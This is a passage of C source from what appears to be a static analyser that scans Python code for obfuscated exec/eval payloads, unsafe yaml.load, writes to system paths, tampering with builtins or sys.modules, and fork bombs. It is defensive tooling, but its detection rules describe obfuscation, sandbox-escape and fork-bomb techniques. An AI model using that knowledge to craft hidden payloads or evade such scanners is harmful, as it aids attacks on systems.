        return NULL;
}

static void on_path_use(Ctx *c, const char *path, bool write, size_t head, size_t cl)
{
        const char *why = system_path(path, write);

        if (why)
                report(c, write ? R_FS_WRITE : R_FS_DELETE, head, cl, "%s %.*s: %s",
                       write ? "writes" : "deletes", (int)MIN(strlen(path), (size_t)80), path, why);
}

static void on_open(Ctx *c, const char *path, size_t o, size_t cl, int mode_arg, size_t head,
                    unsigned depth)
{
        Str mode = {};

        if (arg_string(c, o, cl, mode_arg, "mode", &mode, depth) && strpbrk(mode.p, "wax+") != NULL)
                on_path_use(c, path, true, head, cl);
        str_done(&mode);
}

/* Whether tokens [a, b) hold a decoder, chr(), a reversal or a name bound to decoded data. */
static bool expr_decoded(Ctx *c, size_t a, size_t b)
{
        b = MIN(b, a + DECODED_LOOK);
        for (size_t i = a; i < b; i++) {
                const PyToken *t = &c->tok[i];

                if (!spend(c, 1))
                        return false;
                if (t->type == PY_TOK_NAME && !(i > a && tok_is(c, i - 1, "."))) {
                        Binding *bd = lookup(c, c->src + t->start, t->len);
                        Ref r;
                        size_t e;

                        if (bd && (bd->kind == B_DECODED ||
                                   (bd->kind == B_CONST && (bd->flags & STR_DECODED))))
                                return true;
                        if (walk_chain(c, i, b, &r, WALK_CALLEE, 1, &e) && r.e &&
                            r.e->role >= ROLE_B64 && r.e->role <= ROLE_CHR)
                                return true;
                } else if (tok_is(c, i, "[") && is_reversal(c, i, close_of(c, i, b)))
                        return true;
                else if (tok_is(c, i, ".") && tok_is(c, i + 1, "translate"))
                        return true;
        }
        return false;
}

static int scan_ctx(Ctx *c);
static void ctx_done(Ctx *c);

/* Scans code that exec(), eval() or compile() is given as a constant, reporting at the call. */
static void scan_payload(Ctx *c, const Str *v, size_t head, size_t cl, const char *what)
{
        Ctx *sub;
        int r;

        /* Each payload costs its bytes and a page for its state. */
        if (c->payload_depth + 1 >= PAYLOAD_DEPTH || v->len == 0 ||
            v->len + PAYLOAD_COST > c->sh->payload_budget)
                return;
        c->sh->payload_budget -= v->len + PAYLOAD_COST;
        sub = calloc(1, sizeof(*sub));
        if (!sub) {
                fail(c, -ENOMEM);
                return;
        }
        sub->src = v->p;
        sub->len = v->len;
        sub->sh = c->sh;
        sub->parent = c;
        sub->payload_depth = c->payload_depth + 1;
        sub->at_what = what;
        if (c->at) {
                sub->at = c->at;
                sub->at_snippet = c->at_snippet;
                sub->at_snippet_len = c->at_snippet_len;
        } else {
                const PyToken *a = &c->tok[head], *b = &c->tok[MAX(head, MIN(cl, c->n - 1))];

                sub->at = a;
                sub->at_snippet = c->src + a->start;
                sub->at_snippet_len =
                    MIN((size_t)(b->start + b->len - a->start), (size_t)SNIPPET_MAX);
        }
        r = scan_ctx(sub);
        if (r < 0)
                fail(c, r);
        ctx_done(sub);
        free(sub);
}

/* eval(compile("...", ...)): the compile() call is reported, with what it compiles. */
static bool is_compile_of_literal(Ctx *c, size_t a, size_t b)
{
        size_t j, x, y;
        Str v = {};
        Ref r;
        bool ok = walk_chain(c, a, b, &r, WALK_CALLEE, 1, &j) &&
                  strcmp(r.q, "builtins.compile") == 0 && tok_is(c, j, "(") &&
                  close_of(c, j, b) == b - 1 && call_arg(c, j, b - 1, 0, "source", &x, &y) &&
                  fold(c, x, y, &v, 1) && !(v.flags & (STR_INT | STR_DECODED));

        str_done(&v);
        return ok;
}

static void on_code(Ctx *c, const Ref *r, size_t head, size_t o, size_t cl)
{
        static const struct {
                const char *q, *what;
        } whats[] = {
            {"builtins.compile", "compile()"},
            {"builtins.eval", "eval()"},
            {"builtins.exec", "exec()"},
        };
        const char *what = "exec()";
        size_t a, b;
        Str v = {};
        bool ok, decoded;

        for (size_t i = 0; i < ELEMENTSOF(whats); i++)
                if (strcmp(r->q, whats[i].q) == 0)
                        what = whats[i].what;
        if (strcmp(r->q, "builtins.execfile") == 0 || !call_arg(c, o, cl, 0, "source", &a, &b)) {
                if (o + 1 < cl)
                        report(c, R_DYN_EVAL, head, cl, "%s of code the scanner cannot see", r->q);
                return;
        }
        ok = fold(c, a, b, &v, 1) && !(v.flags & STR_INT);
        decoded = (v.flags & STR_DECODED) || (!ok && expr_decoded(c, a, b));
        if (decoded)
                report(c, R_OBF_EXEC, head, cl, "%s of code decoded at run time%s", what,
                       ok ? " (scanned too)" : "");
        else if (ok)
                report(c, R_DYN_LITERAL, head, cl, "%s of a string literal (scanned too)", what);
        else if (!is_compile_of_literal(c, a, b))
                report(c, R_DYN_EVAL, head, cl, "%s of an expression the scanner cannot see", what);
        if (ok)
                scan_payload(c, &v, head, cl, what);
        str_done(&v);
}

static void on_load(Ctx *c, size_t head, size_t o, size_t cl)
{
        size_t a, b;
        Str v = {};
        bool ok;

        if (!call_arg(c, o, cl, 0, NULL, &a, &b))
                return;
        ok = fold(c, a, b, &v, 1) && !(v.flags & STR_INT);
        if ((v.flags & STR_DECODED) || (!ok && expr_decoded(c, a, b)))
                report(c, R_OBF_EXEC, head, cl, "loads code or objects decoded at run time");
        else if (ok)
                report(c, R_DYN_EMBEDDED, head, cl, "loads a payload written into the source");
        str_done(&v);
}

static void on_yaml(Ctx *c, size_t head, size_t o, size_t cl)
{
        size_t a, b;

        if (call_arg(c, o, cl, 1, "Loader", &a, &b)) {
                /* The loader's last name: yaml.SafeLoader, CSafeLoader, BaseLoader. */
                const PyToken *t = &c->tok[b - 1];
                const char *s = c->src + t->start;

                if (t->type == PY_TOK_NAME &&
                    (ends_with(s, t->len, "SafeLoader") || ends_with(s, t->len, "BaseLoader")))
                        return;
        }
        report(c, R_DYN_YAML, head, cl, "yaml.load without a safe Loader");
}

static void on_setattr(Ctx *c, const Ref *r, size_t head, size_t o, size_t cl, unsigned depth)
{
        size_t a, b, e;
        Ref base;
        Str attr = {};
        bool have_base = call_arg(c, o, cl, 0, NULL, &a, &b) &&
                         walk_chain(c, a, b, &base, 0, depth + 1, &e) && e == b;

        if (have_base && (strcmp(base.q, "builtins") == 0 || strncmp(base.q, "builtins.", 9) == 0))
                report(c, R_ESC_BUILTINS, head, cl, "%s on the builtins", r->q + 9);
        if (have_base && strcmp(base.q, "sys.modules") == 0)
                report(c, R_ESC_MODULES, head, cl, "%s on sys.modules", r->q + 9);
        if (arg_string(c, o, cl, 1, "name", &attr, depth)) {
                if (str_is(&attr, "__code__") || str_is(&attr, "co_code"))
                        report(c, R_ESC_CODE, head, cl, "replaces a function's code");
                check_dunder(c, attr.p, attr.len, head, cl, false);
        }
        str_done(&attr);
}

/* Marks the loops of the current function (all loops when all) with what happens in them. */
static void mark_loops(Ctx *c, bool all, int what)
{
        for (size_t k = c->n_blocks; k > 0; k--) {
                Block *bk = &c->blocks[k - 1];

                if (bk->kind == BLOCK_FUNC) {
                        if (what == MARK_FORK)
                                bk->forks = true;
                        if (!all)
                                break;
                        continue;
                }
                if (bk->kind != BLOCK_LOOP)
                        continue;
                switch (what) {
                case MARK_EXIT:
                        bk->exits = true;
                        break;
                case MARK_FORK:
                        bk->forks = true;
                        break;
                case MARK_GROW:
                        bk->grows = true;
                        break;
                case MARK_THROTTLE:
                        bk->throttled = true;
                        break;
                }
        }
}

static void on_fork(Ctx *c, size_t head, size_t cl)
{
        bool in_loop = false;

        for (size_t k = c->n_blocks; k > 0 && c->blocks[k - 1].kind != BLOCK_FUNC; k--)
                in_loop = in_loop || c->blocks[k - 1].kind == BLOCK_LOOP;
        for (size_t k = cl; !in_loop && k < c->stmt_b; k++)
                in_loop = tok_is(c, k, "for"); /* [os.fork() for _ in range(99)] */
        if (in_loop)
                report(c, R_RES_FORK_LOOP, head, cl, "forks in a loop");
        mark_loops(c, false, MARK_FORK);
}

/* --- blocks: loops and functions --------------------------------------------------------- */

static void block_push(Ctx *c, uint8_t kind, size_t tok, size_t end, bool infinite, uint32_t scope,
                       size_t name)
{
        /* Deeper than Python allows: the block is not followed, its body counts as the
         * enclosing one's. */
        bool in_try = false;

        if (c->n_blocks >= MAX_BLOCKS)
                return;
        for (size_t k = c->n_blocks; k > 0 && c->blocks[k - 1].kind != BLOCK_FUNC; k--)
                in_try = in_try || c->blocks[k - 1].kind == BLOCK_TRY;
        c->blocks[c->n_blocks++] = (Block){
            .kind = kind,
            .infinite = infinite,
            .in_try = in_try,
            .level = c->level,
            .tok = (uint32_t)tok,
            .end = (uint32_t)end,
            .scope = scope,
            .name = (uint32_t)name,
        };
        if (kind == BLOCK_FUNC)
                c->scope = scope;
}

static void block_pop(Ctx *c)
{
        Block bk = c->blocks[--c->n_blocks];

        if (bk.kind == BLOCK_LOOP && bk.infinite && !bk.exits) {
                if (bk.forks)
                        report(c, R_RES_FORK_BOMB, bk.tok, bk.end,
                               "a loop with no way out that forks: a fork bomb");
                else if (bk.grows && !bk.throttled && !bk.in_try)
                        report(c, R_RES_GROW, bk.tok, bk.end,
                               "a loop with no way out that grows memory or threads");
        }
        if (bk.kind == BLOCK_FUNC) {
                if (bk.forks && bk.recurses)
                        report(c, R_RES_FORK_BOMB, bk.tok, bk.end,
                               "a function that forks and calls itself: a fork bomb");
                c->scope = 0;
                for (size_t k = c->n_blocks; k > 0; k--)
                        if (c->blocks[k - 1].kind == BLOCK_FUNC) {
                                c->scope = c->blocks[k - 1].scope;
                                break;
                        }
        }
}

/* Closes the blocks a line at this indentation level is no longer inside of. */
static void blocks_close(Ctx *c, uint32_t level)
{
        while (c->n_blocks > 0 && c->blocks[c->n_blocks - 1].level >= level)
                block_pop(c);
}

/* A call to the function being defined, by its bare name. */
static void note_self_call(Ctx *c, size_t i)
{
        for (size_t k = c->n_blocks; k > 0; k--) {
                Block *bk = &c->blocks[k - 1];
                const PyToken *t = &c->tok[i], *name = &c->tok[bk->name];

                if (bk->kind != BLOCK_FUNC)
                        continue;
                if (tok_is(c, i + 1, "(") && t->len == name->len &&
                    memcmp(c->src + t->start, c->src + name->start, t->len) == 0)
                        bk->recurses = true;
                return;
        }
}

/* --- statements -------------------------------------------------------------------------- */

static bool is_aug_assign(const Ctx *c, size_t i)
{
        const PyToken *t = &c->tok[i];
        const char *s = c->src + t->start;

        return t->type == PY_TOK_OP && t->len >= 2 && s[t->len - 1] == '=' &&
               !(t->len == 2 && strchr("=!<>", s[0]));
}

/* The matcher proper: every token of an expression. */
static void scan_expr(Ctx *c, size_t a, size_t b)
{
        for (size_t i = a; i < b; i++) {
                const PyToken *t = &c->tok[i];

                if (t->type == PY_TOK_NAME) {
                        Ref r;
                        size_t e;

                        if (i > 0 && tok_is(c, i - 1, "."))
                                continue; /* an attribute: see '.' */
                        if (is_keyword(c, i)) {
                                if (py_token_is(c->src, t, "yield")) /* a generator: no bomb */
                                        mark_loops(c, false, MARK_EXIT);
                                continue;
                        }
                        /* f(x=...) and x = ...: a name being bound, not used */
                        if (tok_is(c, i + 1, "=") &&
                            (i == a || tok_is(c, i - 1, "(") || tok_is(c, i - 1, ",") ||
                             tok_is(c, i - 1, "="))) {
                                if (py_token_is(c->src, t, "co_code"))
                                        report(c, R_ESC_CODE, i, i + 1, "replaces co_code");
                                continue;
                        }
                        if (!walk_chain(c, i, b, &r, WALK_MAIN, 0, &e))
                                note_self_call(c, i);
                        if (i == c->value_start) {
                                /* what the value of an assignment is: bind_value() uses it */
                                c->value_known = r.known;
                                c->value_role = r.role;
                                c->value_end = e;
                                memcpy(c->value_q, r.q, sizeof(r.q));
                        }
                } else if (t->type == PY_TOK_OP) {
                        char m[24];
                        int mlen;

                        if (is_aug_assign(c, i) && strchr("+*<", c->src[t->start]))
                                mark_loops(c, false, MARK_GROW);
                        if (tok_is(c, i, "[") && is_reversal(c, i, close_of(c, i, b)))
                                c->decoded_at = i;
                        if (!tok_is(c, i, ".") || !tok_type(c, i + 1, PY_TOK_NAME) ||
                            (mlen = py_name_value(c->src, &c->tok[i + 1], m, sizeof(m), NULL)) < 0)
                                continue;
                        check_dunder(c, m, (size_t)mlen, i + 1, i + 1, false);
                        if (strcmp(m, "translate") == 0)
                                c->decoded_at = i;
                        if (!tok_is(c, i + 2, "("))
                                continue;
                        for (size_t k = 0; k < ELEMENTSOF(grow_methods); k++)
                                if (strcmp(m, grow_methods[k]) == 0)
                                        mark_loops(c, false, MARK_GROW);
                        for (size_t k = 0; k < ELEMENTSOF(block_methods); k++)
                                if (strcmp(m, block_methods[k]) == 0)
                                        mark_loops(c, false, MARK_THROTTLE);
                } else if ((t->type == PY_TOK_STRING || t->type == PY_TOK_FSTRING_MIDDLE) &&
                           !c->docstring) {
                        const char *v;
                        size_t n;

                        if (!token_value(c, i, &v, &n))
                                continue;
                        check_literal(c, v, n, i, i);
                        /* x["__builtins__"]: a subscript reaching an escape attribute */
                        if (i > 0 && tok_is(c, i - 1, "[") && tok_is(c, i + 1, "]"))
                                check_dunder(c, v, n, i - 1, i + 1, true);
                }
        }
}

/* The next token at bracket depth 0 in [a, b) that is s, or b. */
static size_t find_top(const Ctx *c, size_t a, size_t b, const char *s)
{
        for (size_t i = a; i < b; i = skip_group(c, i, b))
                if (tok_is(c, i, s))
                        return i;
        return b;
}

/* A qualified name under a module no rule watches (numpy, pandas) is as good as a local. */
static uint8_t qual_kind(const char *q, size_t n)
{
        const char *dot = memchr(q, '.', n);

        return q[0] == '<' || module_interesting(q, dot ? (size_t)(dot - q) : n) ? B_QUAL : B_LOCAL;
}

static void bind(Ctx *c, size_t i, uint8_t kind, const char *val, size_t val_len, uint8_t flags,
                 uint32_t scope)
{
        char buf[QMAX];
        const char *name;
        size_t n;

        if (kind == B_QUAL && qual_kind(val, val_len) == B_LOCAL)
                kind = B_LOCAL, val_len = 0;
        if (tok_type(c, i, PY_TOK_NAME) && name_of(c, i, buf, sizeof(buf), &name, &n, false))
                (void)bindings_set(&c->b, name, n, scope, kind, val, val_len, flags);
}

/* Every bare name in [a, b) (a tuple of targets, loop variables) stops meaning what it did. */
static void bind_locals(Ctx *c, size_t a, size_t b, uint32_t scope)
{
        for (size_t i = a; i < b; i++)
                if (tok_type(c, i, PY_TOK_NAME) && !is_keyword(c, i) &&
                    !(i > a && tok_is(c, i - 1, ".")) && !tok_is(c, i + 1, ".") &&
                    !tok_is(c, i + 1, "[") && !tok_is(c, i + 1, "("))
                        bind(c, i, B_LOCAL, "", 0, 0, scope);
}

static bool is_fold_role(int role)
{
        return (role >= ROLE_B64 && role <= ROLE_JOIN) || role == ROLE_PATH || role == ROLE_HOME;
}

/* name = value: what the name now stands for. The statement was matched just before: that pass
 * left whether it met a decoder and what the name at the value's start resolved to, so only
 * values that can be folded are folded again. */
static void bind_value(Ctx *c, size_t name, size_t a, size_t b)
{
        bool decoded = c->decoded_at != SIZE_MAX && c->decoded_at >= a && c->decoded_at < b;
        bool head = tok_type(c, a, PY_TOK_NAME), may_fold = !head;
        int64_t *ints = NULL;
        size_t n = 0;
        Str v = {};

        if (head) {
                Binding *bd = lookup(c, c->src + c->tok[a].start, c->tok[a].len);

                may_fold = (bd && bd->kind != B_QUAL && bd->kind != B_LOCAL) ||
                           (c->value_start == a && is_fold_role(c->value_role));
        }
        if (a < b && may_fold && fold(c, a, b, &v, 0) && !(v.flags & STR_INT)) {
                if (v.flags & (STR_JOINED | STR_DECODED))
                        check_literal(c, v.p, v.len, a, b - 1);
                bind(c, name, B_CONST, v.p, v.len, v.flags, c->scope);
        } else if (a < b && may_fold && int_list(c, a, b, &ints, &n)) {
                int32_t *packed = malloc(MAX(n, (size_t)1) * sizeof(*packed));

                for (size_t k = 0; packed && k < n; k++)
                        packed[k] =
                            (int32_t)MAX(MIN(ints[k], (int64_t)INT32_MAX), (int64_t)INT32_MIN);
                if (packed)
                        bind(c, name, B_INTLIST, (const char *)packed, n * sizeof(*packed), 0,
                             c->scope);
                free(packed);
                free(ints);
        } else if (head && c->value_start == a && c->value_known && c->value_end == b)
                bind(c, name, B_QUAL, c->value_q, strlen(c->value_q), 0, c->scope);
        else if (decoded || (v.flags & STR_DECODED))
                bind(c, name, B_DECODED, "", 0, 0, c->scope);
        else
                bind(c, name, B_LOCAL, "", 0, 0, c->scope);
        str_done(&v);
}

/* An assignment target or a del: writes to the builtins, sys.modules, __code__. */
static void check_target(Ctx *c, size_t s, size_t e)
{
        size_t last, end;
        Ref base;
        char m[24];

        if (e == s + 1 && tok_is(c, s, "__builtins__")) {
                report(c, R_ESC_BUILTINS, s, s, "rebinds __builtins__");
                return;
        }
        if (e < s + 3)
                return;
        if (tok_is(c, e - 1, "]") && c->pair[e - 1] < e - 1 && c->pair[e - 1] > s)
                last = c->pair[e - 1];
        else if (tok_is(c, e - 2, ".") && tok_type(c, e - 1, PY_TOK_NAME))
                last = e - 2;
        else
                return;
        if (tok_is(c, last, ".") && py_name_value(c->src, &c->tok[e - 1], m, sizeof(m), NULL) > 0 &&
            (strcmp(m, "__code__") == 0 || strcmp(m, "co_code") == 0)) {
                report(c, R_ESC_CODE, s, e - 1, "assigns %s", m);
                return;
        }
        if (!walk_chain(c, s, last, &base, 0, 0, &end) || end != last)
                return;
        if (strcmp(base.q, "builtins") == 0 || strncmp(base.q, "builtins.", 9) == 0)
                report(c, R_ESC_BUILTINS, s, e - 1, "changes the builtins");
        else if (strcmp(base.q, "sys.modules") == 0 || strcmp(base.q, "sys.meta_path") == 0 ||
                 strcmp(base.q, "sys.path_hooks") == 0)
                report(c, R_ESC_MODULES, s, e - 1, "changes %s", base.q);
        else if (strcmp(base.q, "<globals>") == 0 && tok_is(c, last, "[")) {
                Str key = {};

                if (fold(c, last + 1, e - 1, &key, 0) && str_is(&key, "__builtins__"))
                        report(c, R_ESC_BUILTINS, s, e - 1, "rebinds __builtins__");
                str_done(&key);
        }
}

static void do_assign(Ctx *c, size_t a, size_t b)
{
        size_t eqs[16], n_eq = 0, s = a;

        for (size_t i = a; i < b && n_eq < ELEMENTSOF(eqs); i = skip_group(c, i, b))
                if (tok_is(c, i, "="))
                        eqs[n_eq++] = i;
        c->decoded_at = SIZE_MAX;
        c->value_start = n_eq > 0 ? eqs[n_eq - 1] + 1 : SIZE_MAX;
        c->value_known = false;
        c->value_role = ROLE_NONE;
        scan_expr(c, a, b);
        for (size_t k = 0; k < n_eq; k++) {
                size_t e = eqs[k];

                /* x: int = 5 */
                if (tok_type(c, s, PY_TOK_NAME) && tok_is(c, s + 1, ":"))
                        e = s + 1;
                if (find_top(c, s, e, ",") < e)
                        bind_locals(c, s, e, c->scope);
                else if (e == s + 1 && tok_type(c, s, PY_TOK_NAME)) {
                        check_target(c, s, e); /* __builtins__ = {} */
                        bind_value(c, s, eqs[n_eq - 1] + 1, b);
                } else
                        check_target(c, s, e);
                s = eqs[k] + 1;
        }
}

/* "import a.b.c as d, e" */
static void do_import(Ctx *c, size_t a, size_t b)
{
        for (size_t i = a + 1; i < b;) {
                char m[QMAX] = "";
                size_t s = i, mlen = 0;
                Ref r = {};

                for (; tok_type(c, i, PY_TOK_NAME) && i < b; i += 2) {
                        char buf[QMAX];
                        const char *name;
                        size_t n;

                        if (!name_of(c, i, buf, sizeof(buf), &name, &n, false) ||
                            mlen + n + 2 >= QMAX)
                                return;
                        if (mlen > 0)
                                m[mlen++] = '.';
                        memcpy(m + mlen, name, n);
                        m[mlen += n] = '\0';
                        if (!tok_is(c, i + 1, "."))
                                break;
                }
                if (mlen == 0 || !ref_set_module(&r, m, mlen))
                        return;
                i++;
                ref_found(c, &r, s, i - 1, true);
                if (tok_is(c, i, "as") && tok_type(c, i + 1, PY_TOK_NAME)) {
                        bind(c, i + 1, B_QUAL, r.q, strlen(r.q), 0, c->scope);
                        i += 2;
                } else {
                        const char *dot = memchr(m, '.', mlen);
                        size_t top = dot ? (size_t)(dot - m) : mlen;

                        if (ref_set_module(&r, m, top))
                                (void)bindings_set(&c->b, m, top, c->scope,
                                                   qual_kind(r.q, strlen(r.q)), r.q, strlen(r.q),
                                                   0);
                }
                if (!tok_is(c, i, ","))
                        return;
                i++;
        }
}

/* "from m import a as b, c", "from m import *", "from . import x" */
static void do_from(Ctx *c, size_t a, size_t b)
{
        char m[QMAX] = "";
        size_t i = a + 1, mlen = 0;
        bool relative = false;
        Ref r = {};

        for (; i < b && (tok_is(c, i, ".") || tok_is(c, i, "...")); i++)
                relative = true;
        for (; i < b && tok_type(c, i, PY_TOK_NAME) && !tok_is(c, i, "import"); i++) {
                char buf[QMAX];
                const char *name;
                size_t n;

                if (!name_of(c, i, buf, sizeof(buf), &name, &n, false) || mlen + n + 2 >= QMAX)
                        return;
                if (mlen > 0)
                        m[mlen++] = '.';
                memcpy(m + mlen, name, n);
                m[mlen += n] = '\0';
                if (tok_is(c, i + 1, "."))
                        i++;
        }
        if (!tok_is(c, i, "import"))
                return;
        i++;
        if (tok_is(c, i, "*")) {
                if (!relative && mlen > 0 && c->n_stars < MAX_STARS && ref_set_module(&r, m, mlen))
                        memcpy(c->stars[c->n_stars++], r.q, sizeof(r.q));
                return;
        }
        for (; i < b; i++) {
                size_t name = i, alias = i;

                if (!tok_type(c, i, PY_TOK_NAME))
                        continue; /* '(' ',' ')' */
                if (tok_is(c, i + 1, "as") && tok_type(c, i + 2, PY_TOK_NAME))
                        alias = i += 2;
                if (relative || mlen == 0 || !ref_set_module(&r, m, mlen)) {
                        bind(c, alias, B_LOCAL, "", 0, 0, c->scope);
                        continue;
                }
                {
                        char buf[QMAX];
                        const char *s;
                        size_t n;

                        if (!name_of(c, name, buf, sizeof(buf), &s, &n, false) ||
                            !ref_append(&r, s, n)) {
                                bind(c, alias, B_LOCAL, "", 0, 0, c->scope);
                                continue;
                        }
                }
                ref_found(c, &r, name, name, true);
                bind(c, alias, B_QUAL, r.q, strlen(r.q), 0, c->scope);
        }
}

static void do_simple(Ctx *c, size_t a, size_t b)
{
        const PyToken *t = &c->tok[a];
        bool all_strings = true;

        if (a >= b)
                return;
        c->stmt_a = a;
        c->stmt_b = b;
        if (t->type == PY_TOK_NAME) {
                if (tok_is(c, a, "import")) {
                        do_import(c, a, b);
                        return;
                }
                if (tok_is(c, a, "from")) {
                        do_from(c, a, b);
                        return;
                }
                if (tok_is(c, a, "break")) {
                        /* the innermost loop, through any try around the break */
                        for (size_t k = c->n_blocks; k > 0 && c->blocks[k - 1].kind != BLOCK_FUNC;
                             k--)
                                if (c->blocks[k - 1].kind == BLOCK_LOOP) {
                                        c->blocks[k - 1].exits = true;
                                        break;
                                }
                        return;
                }
                if (tok_is(c, a, "return") || tok_is(c, a, "raise"))
                        mark_loops(c, false, MARK_EXIT);
                if (tok_is(c, a, "del")) {
                        for (size_t s = a + 1, e; s < b; s = e + 1) {
                                e = find_top(c, s, b, ",");
                                check_target(c, s, e);
                        }
                }
        }
        /* A string alone is a docstring (or dead code): what it says is not done. */
        for (size_t i = a; i < b && all_strings; i++)
                all_strings = c->tok[i].type == PY_TOK_STRING;
        c->docstring = all_strings;
        if (find_top(c, a, b, "=") < b)
                do_assign(c, a, b);
        else {
                scan_expr(c, a, b);
                for (size_t i = a; i < b; i = skip_group(c, i, b))
                        if (is_aug_assign(c, i) && i == a + 1)
                                bind(c, a, B_LOCAL, "", 0, 0, c->scope);
        }
        c->docstring = false;
}

static void do_simple_list(Ctx *c, size_t a, size_t b)
{
        for (size_t s = a, e; s < b; s = e + 1) {
                e = find_top(c, s, b, ";");
                do_simple(c, s, e);
        }
}

/* while True, while 1, while (True), while not False */
static bool cond_true(const Ctx *c, size_t a, size_t b)
{
        while (b > a + 2 && tok_is(c, a, "(") && c->pair[a] == b - 1) {
                a++;
                b--;
        }
        if (b == a + 2 && tok_is(c, a, "not"))
                return tok_is(c, a + 1, "False") || tok_is(c, a + 1, "None") ||
                       (tok_type(c, a + 1, PY_TOK_NUMBER) &&
                        strspn(c->src + c->tok[a + 1].start, "0._") >= c->tok[a + 1].len);
        if (b != a + 1)
                return false;
        if (tok_is(c, a, "True"))
                return true;
        if (tok_type(c, a, PY_TOK_NUMBER))
                return strspn(c->src + c->tok[a].start, "0._") < c->tok[a].len;
        return tok_type(c, a, PY_TOK_STRING) &&
               c->tok[a].len > (c->tok[a].flags & PY_TOKF_TRIPLE ? 6u : 2u);
}

/* for x in itertools.count(), itertools.cycle(...), iter(int, 1): iter(f, sentinel) ends when f
 * returns the sentinel, which a constructor called without arguments never does. */
static bool iter_infinite(Ctx *c, size_t a, size_t b)
{
        size_t j, x, y;
        Ref r;

        if (!walk_chain(c, a, b, &r, WALK_CALLEE, 0, &j) || !tok_is(c, j, "(") ||
            close_of(c, j, b) != b - 1)
                return false;
        if (r.e && r.e->role == ROLE_INFINITE)
                return true;
        if (strcmp(r.q, "builtins.iter") != 0 || !call_arg(c, j, b - 1, 0, NULL, &x, &y) ||
            y != x + 1 || !call_arg(c, j, b - 1, 1, NULL, &x, &y))
                return false;
        x = j + 1;
        return tok_is(c, x, "int") || tok_is(c, x, "float") || tok_is(c, x, "str") ||
               tok_is(c, x, "bool") || tok_is(c, x, "list") || tok_is(c, x, "dict") ||
               tok_is(c, x, "tuple") || tok_is(c, x, "object");
}

/* def name(params): defaults are evaluated here, params are the body's own names. */
static void do_def(Ctx *c, size_t k, size_t colon, size_t line)
{
        uint32_t scope = ++c->next_scope;
        size_t o = k + 2, cl;

        bind(c, k + 1, B_LOCAL, "", 0, 0, c->scope);
        if (tok_is(c, o, "(")) {
                cl = close_of(c, o, colon);
                for (size_t s = o + 1, e; s < cl; s = e + 1) {
                        size_t eq;

                        e = find_top(c, s, cl, ",");
                        while (s < e && (tok_is(c, s, "*") || tok_is(c, s, "**")))
                                s++;
                        bind(c, s, B_LOCAL, "", 0, 0, scope);
                        eq = find_top(c, s, e, "=");
                        if (eq < e)
                                scan_expr(c, eq + 1, e);
                }
        }
        block_push(c, BLOCK_FUNC, line, colon, false, scope, k + 1);
}

/* The ':' ending a compound statement's header. */
static size_t header_colon(const Ctx *c, size_t a, size_t b)
{
        for (size_t i = a; i < b; i = skip_group(c, i, b)) {
                if (tok_is(c, i, "lambda")) /* its ':' is its own */
                        i = find_top(c, i + 1, b, ":");
                else if (tok_is(c, i, ":"))
                        return i;
        }
        return b;
}

/* One logical line: a compound statement's header and its body on the same line, or simple
 * statements. */
static void do_line(Ctx *c, size_t a, size_t nl)
{
        size_t k = a + tok_is(c, a, "async"), colon, in;
        bool pushed = false;
        static const char *const compound[] = {"class", "def", "elif", "else",  "except", "finally",
                                               "for",   "if",  "try",  "while", "with"};
        const char *kw = NULL;

        for (size_t i = 0; i < ELEMENTSOF(compound) && !kw; i++)
                if (tok_is(c, k, compound[i]))
                        kw = compound[i];
        if (!kw || (colon = header_colon(c, k + 1, nl)) >= nl) {
                do_simple_list(c, a, nl);
                return;
        }
        c->stmt_a = k;
        c->stmt_b = colon;
        if (strcmp(kw, "while") == 0) {
                block_push(c, BLOCK_LOOP, a, colon, cond_true(c, k + 1, colon), 0, 0);
                pushed = true;
                scan_expr(c, k + 1, colon); /* evaluated at every iteration */
        } else if (strcmp(kw, "for") == 0) {
                in = find_top(c, k + 1, colon, "in");
                scan_expr(c, MIN(in + 1, colon), colon);
                bind_locals(c, k + 1, in, c->scope);
                block_push(c, BLOCK_LOOP, a, colon, in < colon && iter_infinite(c, in + 1, colon),
                           0, 0);
                pushed = true;
        } else if (strcmp(kw, "def") == 0) {
                do_def(c, k, colon, a);
                pushed = true;
        } else if (strcmp(kw, "class") == 0) {
                bind(c, k + 1, B_LOCAL, "", 0, 0, c->scope);
                scan_expr(c, k + 2, colon);
                block_push(c, BLOCK_FUNC, a, colon, false, ++c->next_scope, k + 1);
                pushed = true;
        } else if (strcmp(kw, "try") == 0) {
                block_push(c, BLOCK_TRY, a, colon, false, 0, 0);
                pushed = true;
        } else {
                scan_expr(c, k + 1, colon);
                /* with open(p) as f, except E as e: f and e are new names */
                for (size_t i = k + 1; i + 1 < colon; i++)
                        if (tok_is(c, i, "as"))
                                bind_locals(c, i + 1, i + 2, c->scope);
        }
        if (colon + 1 < nl) {
                do_simple_list(c, colon + 1, nl);
                if (pushed && c->n_blocks > 0 && c->blocks[c->n_blocks - 1].tok == a)
                        block_pop(c); /* the body was the rest of the line */
        }
}

/* --- driver ------------------------------------------------------------------------------ */

/* Python reads a "coding" comment on line 1 or 2 and decodes the file with it. What it decodes
 * with anything but these is not the text scanned. */
static void check_coding(Ctx *c, const PyToken *t)
{
        static const char *const ok[] = {"utf-8",   "utf8",   "ascii",       "us-ascii",
                                         "latin-1", "latin1", "iso-8859-",   "iso8859-",
                                         "l1",      "cp1252", "windows-1252"};
        const char *p = c->src + t->start, *end = p + t->len, *s;
        char name[32];
        size_t n = 0;

        s = memmem(p, t->len, "coding", 6);
        if (!s || s + 6 >= end || (s[6] != ':' && s[6] != '='))
                return;
        for (s += 7; s < end && (*s == ' ' || *s == '\t'); s++)
                ;
        for (; s < end && n + 1 < sizeof(name) && (name_char(*s)); s++)
                name[n++] = *s == '_' ? '-' : (char)(*s | ((*s >= 'A' && *s <= 'Z') ? 0x20 : 0));
        name[n] = '\0';
        if (n == 0)
                return;
        for (size_t i = 0; i < ELEMENTSOF(ok); i++)
                if (strncmp(name, ok[i], strlen(ok[i])) == 0 &&
                    (ok[i][strlen(ok[i]) - 1] == '-' || name[strlen(ok[i])] == '\0' ||
                     strcmp(name + strlen(ok[i]), "-sig") == 0))
                        return;
        scan_report_add(c->sh->report, &scan_python_rules[R_OBF_CODING], t->line, t->col, p, t->len,
                        "source encoding %s: Python decodes the file, the scanner reads it "
                        "as it is",
                        name);
}

static bool is_closer(const PyToken *t, const char *src)
{
        return t->type == PY_TOK_FSTRING_END ||
               (t->type == PY_TOK_OP && t->len == 1 &&
                (src[t->start] == ')' || src[t->start] == ']' || src[t->start] == '}'));
}

/* pair[i]: for a bracket, its partner; for an opener never closed, the last token; else i.
 * The open brackets are a stack threaded through pair[] itself. */
static void pair_brackets(Ctx *c)
{
        uint32_t top = UINT32_MAX;

